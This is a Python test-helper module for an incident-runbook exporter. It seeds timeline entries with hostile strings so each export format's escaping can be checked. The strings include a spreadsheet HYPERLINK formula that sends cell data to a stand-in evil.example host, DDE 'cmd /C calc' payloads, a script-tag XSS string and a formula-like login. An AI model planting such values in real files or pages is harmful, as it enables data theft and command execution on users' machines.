"""An incident whose entries are hostile, and an export of it in any format, for tests of the formats."""

import io
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any, BinaryIO

from django.core.files.storage import default_storage
from django.utils import timezone

from runbooks.access.models import User
from runbooks.access.permissions import COMMAND_LINE, Actor
from runbooks.exports.formats import FORMATS, Source
from runbooks.exports.keys import held
from runbooks.exports.models import Export, Redaction
from runbooks.exports.operations.making import about_of, make_export
from runbooks.exports.operations.requesting import Wish, request_export
from runbooks.exports.queries.asked import narrowing
from runbooks.exports.queries.entries import snapshot
from runbooks.incidents.models import Incident
from runbooks.timeline.models import Lane, Precision, TimelineEvent
from tests.factories import make_affected, make_entry, make_step, make_user

# Read as UTC and as the zone of the incident, which is not UTC then.
AT = datetime(2026, 6, 24, 10, 30, 5, 123450, tzinfo=UTC)
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+44 7700 900000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=1+1",
    "harmless;=1+1",
    "first line\n=1+1\r\n@second",
    'quote " and ""',
    "a,b;c\td",
    "<script>alert(1)</script> & <b>",
    "Zoë Ñuñez, łódź, 東京, 🔥 and \u202eevil",
    "control \x01 \x1f \x7f and \u2028 \u2029",
    "＝1+1",
    "x" * 4000,
    "\\N",
    "\\.",
    "null",
    '{"json": true}',
    "_x0041_ is no A",
    "1e5",
    "https://evil.example/",
)


def hostile(incident: Incident) -> list[TimelineEvent]:
    """An entry each, the text in the details as well."""
    return [
        make_entry(incident, text, details={"text": text, text[:50]: 1, "nested": [{"a": None}]}, occurred_at=AT)
        for text in HOSTILE
    ]


def peopled(incident: Incident) -> None:
    """Entries of every sort: about accounts, of a step, a correction, a run, a rough time, a key event."""
    one = make_affected(incident)
    two = make_affected(incident, login="=cmd@parliament.example")
    step = make_step(incident, number="3.2", title="Look at the gateway", instruction="Look **well**.")
    first = make_entry(incident, "Seen", lane=Lane.DETECTION, account_ids=[one.pk, two.pk], kind="entry.added")
    make_entry(incident, "Seen, in truth", corrects=first.sequence, kind="entry.corrected", account_ids=[one.pk])
    make_entry(incident, "Looked", step_id=step.pk, precision=Precision.DAY, occurred_at=AT - timedelta(days=1))
    portal = Actor("IR Portal", is_automated=True)
    for number in range(3):
        make_entry(incident, f"Run {number}", actor=portal, kind="fact.recorded", at=AT + timedelta(seconds=number))
    incident.refresh_from_db()


def redact(incident: Incident, event: TimelineEvent, asker: User, decider: User) -> None:
    """As the operation leaves it, which has tests of its own."""
    at = timezone.now()
    Redaction.objects.create(
        incident=incident, event=event, reason="x", legal_basis="y", status="approved", requester=asker,
        requested_at=at, decider=decider, decided_at=at,
    )  # fmt: skip
    TimelineEvent.objects.filter(pk=event.pk).update(salt=None, summary="", details={})
    make_entry(incident, "Content taken out", kind="entry.redacted", corrects=event.sequence)


def redacted_entry(incident: Incident) -> TimelineEvent:
    event: TimelineEvent = make_entry(incident, "A secret of Zoë", details={"secret": "of Zoë"})
    redact(incident, event, make_user(), make_user())
    incident.refresh_from_db()
    return event


def written(incident: Incident, format: str, **asked: Any) -> bytes:
    """What the format writes of the incident as it is, without a row or an entry."""
    out = io.BytesIO()
    write_to(out, incident, format, **asked)
    return out.getvalue()


def write_to(
    out: BinaryIO,
    incident: Incident,
    format: str,
    *,
    query: str = "",
    order: str = "sequence",
    tell: Callable[[int], None] = lambda done: None,
    **options: Any,
) -> None:
    incident.refresh_from_db()
    export = Export(
        incident=incident, number=3, format=format, options={"order": order, **options}, requested_by="An auditor",
        requested_at=AT, head_sequence=incident.head_sequence, head_hash=incident.head_hash, purpose="A test",
        filter=narrowing(query),
    )  # fmt: skip
    one = FORMATS[format]
    with snapshot(incident.time_zone):
        key = held() if one.is_signed else None
        source = Source(*about_of(export, incident), options=export.options, held=key, tell=tell)
        try:
            one.write(out, source)
        finally:
            source.close()


def exported(incident: Incident, format: str, actor: Actor = COMMAND_LINE, **wish: Any) -> Export:
    """An export that is made, whatever its size."""
    export = request_export(incident_id=incident.pk, wish=Wish(format, **wish), actor=actor, at=timezone.now())
    make_export(export_id=export.pk, clock=timezone.now)
    export.refresh_from_db()
    return export


def content_of(export: Export) -> bytes:
    with default_storage.open(export.file) as file:
        content: bytes = file.read()
    return content
